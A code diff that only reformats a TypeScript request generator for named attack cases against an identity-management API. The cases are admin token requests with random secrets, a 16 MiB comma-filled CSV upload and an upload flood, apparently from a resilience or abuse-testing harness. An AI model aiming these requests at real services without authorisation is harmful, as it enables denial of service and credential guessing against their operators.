@@ -61,7 +61,9 @@ function requests(plan: AttackPlan): () => Request {
         method: 'POST',
         path: '/oauth/token',
         headers: form,
-        body: Buffer.from(new URLSearchParams({ grant_type: 'client_credentials', client_id: plan.adminClientId, client_secret: randomBytes(16).toString('hex') }).toString()),
+        body: Buffer.from(
+          new URLSearchParams({ grant_type: 'client_credentials', client_id: plan.adminClientId, client_secret: randomBytes(16).toString('hex') }).toString(),
+        ),
       });
     case 'unknown-kid':
       return () => {
@@ -71,11 +73,21 @@ function requests(plan: AttackPlan): () => Request {
     case 'csv-commas': {
       const header = 'accountName,firstName,lastName,phone,email,manager,startDate,endDate\n';
       const { body, type } = multipart(Buffer.concat([Buffer.from(header), Buffer.alloc(16 * MIB - header.length - 300, ',')]));
-      return () => ({ method: 'POST', path: `/v2024/non-employee-sources/${plan.sourceId}/non-employee-bulk-upload`, headers: { ...bearer, 'content-type': type }, body });
+      return () => ({
+        method: 'POST',
+        path: `/v2024/non-employee-sources/${plan.sourceId}/non-employee-bulk-upload`,
+        headers: { ...bearer, 'content-type': type },
+        body,
+      });
     }
     case 'upload-flood': {
       const { body, type } = multipart(Buffer.from(plan.csv ?? ''));
-      return () => ({ method: 'POST', path: `/v2024/non-employee-sources/${plan.sourceId}/non-employee-bulk-upload`, headers: { ...bearer, 'content-type': type }, body });
+      return () => ({
+        method: 'POST',
+        path: `/v2024/non-employee-sources/${plan.sourceId}/non-employee-bulk-upload`,
+        headers: { ...bearer, 'content-type': type },
+        body,
+      });
     }
   }
 }
